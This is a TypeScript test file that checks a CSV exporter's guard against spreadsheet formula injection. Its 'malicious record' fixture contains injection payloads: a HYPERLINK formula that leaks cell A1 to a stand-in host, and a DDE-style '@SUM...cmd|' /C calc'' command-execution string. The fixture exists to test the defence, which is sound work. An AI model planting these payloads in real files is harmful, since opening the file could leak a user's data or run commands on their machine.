import { describe, it, expect, beforeAll, afterAll } from "vitest";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { DuckDBInstance } from "@duckdb/node-api";
import type { ColumnSpec, JxRecord } from "@jixiao/schemas";
import { neutraliseCsvText } from "./neutraliseCsvText.js";
import { csvCell } from "./csvTableWriter.js";
import { exportStore } from "./exportStore.js";
import { truthFiles } from "../test-fixtures/truthRecords.js";

describe("neutraliseCsvText", () => {
  it("prefixes a single quote to text starting with = + - @ tab or CR", () => {
    expect(neutraliseCsvText("=1+1")).toBe("'=1+1");
    expect(neutraliseCsvText("+86 21 1234")).toBe("'+86 21 1234");
    expect(neutraliseCsvText("-2+3")).toBe("'-2+3");
    expect(neutraliseCsvText("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(neutraliseCsvText("\t=cmd")).toBe("'\t=cmd");
    expect(neutraliseCsvText("\r=cmd")).toBe("'\r=cmd");
    expect(neutraliseCsvText("=100%")).toBe("'=100%");
  });

  it("leaves other text alone, including those characters further in", () => {
    for (const s of ["", "普陀区", "100%", "a=b", "≥60 次", " =leading space", "'quoted", "x\n=y"]) expect(neutraliseCsvText(s)).toBe(s);
  });

  it("is applied to text columns only, and only with the formula guard: numbers stay plain numbers", () => {
    const text: ColumnSpec = { name: "t", type: "string", nullable: true, description: "" };
    const num: ColumnSpec = { name: "n", type: "double", nullable: true, description: "" };
    const int: ColumnSpec = { name: "i", type: "int", nullable: true, description: "" };
    expect(csvCell(text, "-5", true)).toBe("'-5");
    expect(csvCell(text, "=100%", false)).toBe("=100%");
    expect(csvCell(text, "=100%")).toBe("=100%"); // exact text unless asked
    expect(csvCell(num, -5, true)).toBe(-5);
    expect(csvCell(int, -3, true)).toBe(-3);
    expect(csvCell(text, null, true)).toBeNull();
  });
});

describe("csv export of a malicious record", () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(join(tmpdir(), "jixiao-csv-"))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")';
  function maliciousRecord(): JxRecord {
    const base = truthFiles().find((f) => f.records[0]!.kind === "project_self_eval")!.records[0]!;
    if (base.kind !== "project_self_eval") throw new Error("unreachable");
    const record: JxRecord = {
      ...base,
      project_name: evil,
      competent_department: "@SUM(1+1)*cmd|' /C calc'!A0",
      implementing_unit: "第一行\r\n第二行, \"引号\"",
      funds: { ...base.funds, total: { ...base.funds.total, score: -2.5 } },
      indicators: base.indicators.map((ind, i) => (i === 0 ? { ...ind, target: "-1", name: "+cmd" } : ind)),
    };
    return record;
  }
  const sourceOf = (record: JxRecord) => ({
    async *listRecords() {
      yield record;
    },
    listReviews: async () => [],
  });

  it("warehouse preset (default): the exact text, no BOM, numbers as numbers", async () => {
    const record = maliciousRecord();
    const out = join(dir, "warehouse");
    const r = await exportStore(sourceOf(record), { format: "csv", dir: out });
    expect(r.manifest.csv).toMatchObject({ preset: "warehouse", bom: false, text_prefix: null });
    const text = readFileSync(join(out, "reports.csv"), "utf8");
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(text).toContain(`"=HYPERLINK(""http://example.invalid/?leak=""&A1,""点击"")"`);
    expect(text).not.toContain(`"'=`);
    const db = await (await DuckDBInstance.create(":memory:")).connect();
    const csv = (t: string) => `read_csv('${join(out, `${t}.csv`)}', header = true, allow_quoted_nulls = false)`;
    const rep = (await db.runAndReadAll(`SELECT project_name, competent_department, implementing_unit FROM ${csv("reports")}`)).getRowObjectsJson();
    expect(rep).toEqual([{ project_name: evil, competent_department: "@SUM(1+1)*cmd|' /C calc'!A0", implementing_unit: "第一行\r\n第二行, \"引号\"" }]);
    const ind = (await db.runAndReadAll(`SELECT name, target FROM ${csv("indicators")} WHERE "index" = 0`)).getRowObjectsJson();
    expect(ind).toEqual([{ name: "+cmd", target: "-1" }]);
    const funds = (await db.runAndReadAll(`SELECT typeof(score) AS t, score FROM ${csv("funds")} WHERE "row" = 'total'`)).getRowObjectsJson();
    expect(funds).toEqual([{ t: "DOUBLE", score: -2.5 }]);
    db.closeSync();
  });

  it("spreadsheet preset: neutralises formula text from a record, keeps numbers, and stays RFC 4180", async () => {
    const record = maliciousRecord();
    const out = join(dir, "out");
    const r = await exportStore(sourceOf(record), { format: "csv", dir: out, csvPreset: "spreadsheet" });
    expect(r.manifest.csv).toMatchObject({ preset: "spreadsheet", bom: true, text_prefix: "'" });
    const text = readFileSync(join(out, "reports.csv"), "utf8").replace(/^\uFEFF/, "");
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""点击"")"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(text).toContain(`"第一行\r\n第二行, ""引号"""`);
    expect(text.split("\r\n")[0]).toMatch(/^"report_key","document_sha256","file","ordinal","kind",/);

    // An independent reader gets the neutralised text back, and the numbers as numbers.
    const db = await (await DuckDBInstance.create(":memory:")).connect();
    const csv = (t: string) => `read_csv('${join(out, `${t}.csv`)}', header = true, allow_quoted_nulls = false)`;
    const rep = (await db.runAndReadAll(`SELECT project_name, competent_department, implementing_unit, total_weight::DOUBLE AS total_weight FROM ${csv("reports")}`)).getRowObjectsJson();
    expect(rep).toEqual([
      { project_name: `'${evil}`, competent_department: "'@SUM(1+1)*cmd|' /C calc'!A0", implementing_unit: "第一行\r\n第二行, \"引号\"", total_weight: record.total.weight },
    ]);
    const funds = (await db.runAndReadAll(`SELECT typeof(score) AS t, score FROM ${csv("funds")} WHERE "row" = 'total'`)).getRowObjectsJson();
    expect(funds).toEqual([{ t: "DOUBLE", score: -2.5 }]);
    const ind = (await db.runAndReadAll(`SELECT name, target FROM ${csv("indicators")} WHERE "index" = 0`)).getRowObjectsJson();
    expect(ind).toEqual([{ name: "'+cmd", target: "'-1" }]);
    db.closeSync();
  });

  it("spreadsheet preset: every file starts with a UTF-8 BOM", async () => {
    const source = { async *listRecords() {}, listReviews: async () => [] };
    const out = join(dir, "bom");
    await exportStore(source, { format: "csv", dir: out, csvPreset: "spreadsheet" });
    const bytes = readFileSync(join(out, "flags.csv"));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString("utf8")).toMatch(/^"report_key",/); // the header is written even with no rows
  });
});
